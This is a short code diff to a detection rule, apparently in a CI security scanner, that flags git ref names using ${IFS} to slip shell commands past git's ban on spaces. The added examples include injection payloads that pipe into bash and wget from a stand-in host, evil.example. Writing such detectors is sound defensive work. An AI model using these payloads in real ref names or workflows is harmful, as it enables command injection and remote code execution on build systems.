@@ -10,6 +10,10 @@ export const meta: RuleMeta = {
   description: `git rejects spaces in ref names, so payloads write \${IFS} (the shell's field separator) instead: x\${IFS}|\${IFS}bash. No legitimate name contains it.`,
   remediation: 'delete the ref and check which workflows ran with it',
   example: {bad: `dev\${IFS}|\${IFS}bash`, good: 'dev'},
+  examples: {
+    flagged: [`dev\${IFS}|\${IFS}bash`, `x\${IFS}&&\${IFS}wget\${IFS}-qO-\${IFS}evil.example`],
+    clean: ['dev', 'feature/ifs-parser'],
+  },
 }
 
 export const rule: NameRule = {
